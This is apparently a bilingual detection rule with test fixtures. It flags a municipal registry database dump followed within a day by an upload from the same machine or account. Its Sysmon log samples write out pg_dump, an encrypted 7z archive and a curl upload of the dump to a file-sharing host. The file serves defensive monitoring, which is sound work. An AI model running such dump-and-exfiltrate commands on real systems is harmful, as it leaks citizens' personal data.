/*---
id = "CH-03"
title.en = "Chain: data left after access"
title.it = "Catena: accesso ai dati seguito da uscita"
description.en = "A register was read in bulk or dumped, and within a day data left from the same machine or account."
description.it = "Una banca dati è stata letta in massa o copiata, ed entro un giorno dalla stessa macchina o dallo stesso account sono usciti dati."
severity = "critical"
family = "database"
attack = ["TA0009", "TA0010"]
acn_class = "Violazione dati / IS-1, IS-4"
false_positives = ["an export for statistics, then uploaded to a portal of the region (put it on known_destinations)"]
false_positives_it = ["un'estrazione per statistica, poi caricata su un portale regionale (metterlo in known_destinations)"]
response_it = [
  "1. Bloccare l'uscita.",
  "2. DPO: decorrono le 72 ore.",
  "3. Elencare i soggetti interessati.",
  "4. Segnalare COSC, poi Garante.",
]
privacy = "l'account può essere di un dipendente"

[chain]
within = "24h"
steps = [["DB-03", "DB-06", "DB-12"], ["NT-08", "DB-15"]]

[[test]]
name = "a clerk dumps a base, packs and sends"
alerts = [{ user_name = "mrossi", host_name = "SRV-DB.comune.example" }]
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"\"C:\\Program Files\\PostgreSQL\\bin\\pg_dump.exe\" -f d:\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -s -T d:\\x.sql https://store1.gofile.io/x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "dumped and not sent"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"\"C:\\Program Files\\PostgreSQL\\bin\\pg_dump.exe\" -f d:\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''

[[test]]
name = "dumped on one server, sent from another by somebody else"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"\"C:\\Program Files\\PostgreSQL\\bin\\pg_dump.exe\" -f d:\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"7z.exe a -pSegreto -mhe c:\\temp\\a.7z d:\\atti","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\g.neri"}}}'''
at = "20m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -s -T d:\\x.sql https://store1.gofile.io/x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\g.neri"}}}'''
at = "40m"
---*/
